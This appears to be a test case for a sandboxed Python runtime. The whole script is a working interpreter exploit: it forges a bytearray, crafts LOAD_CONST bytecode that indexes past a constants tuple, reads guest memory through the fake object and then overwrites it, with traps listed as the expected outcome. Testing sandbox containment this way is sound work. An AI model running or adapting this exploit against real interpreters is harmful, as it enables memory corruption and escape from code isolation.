# title: LOAD_CONST with a forged object
# tries: to use bytes of its own choice as a Python object, and through it read and write any address
# ends: trapped unreachable | trapped memory_out_of_bounds | trapped bad_indirect_call | trapped guest_fault

import opcode, struct

op = opcode.opmap
HEADER = bytes.__basicsize__ - 1

def victim():
    return 1

# Constants that lie below a table of pointers to a forged object, so that an index out of range finds one of them.
while True:
    consts = tuple(None for _ in range(3))
    # A bytearray's parts: reference count, type, size, allocated, buffer, start, exports. It begins at 0 and is 2 GiB long.
    forged = struct.pack("<IIiIIIi", 1 << 29, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0) + bytes(64)
    table = struct.pack("<I", id(forged) + HEADER) * 256
    distance = (id(table) + HEADER + 512 - id(consts) - tuple.__basicsize__) // 4
    if 0 < distance < 1 << 30:
        break
    kept = [consts, forged, table, globals().get("kept")]
parts = []
for shift in (24, 16, 8):
    parts += [op["EXTENDED_ARG"], distance >> shift & 255]
crafted = bytes([op["RESUME"], 0] + parts + [op["LOAD_CONST"], distance & 255, op["RETURN_VALUE"], 0])
victim.__code__ = victim.__code__.replace(co_code=crafted, co_consts=consts)
memory = victim()
assert type(memory) is bytearray and len(memory) == 0x7fffffff
print("all of the guest's memory lies open:", memory.find(b"all of the guest's memory") > 0, flush=True)
# Now it writes all over it, and beyond its end.
for address in range(1 << 20, 1 << 31, 4093):
    memory[address] = 0x41
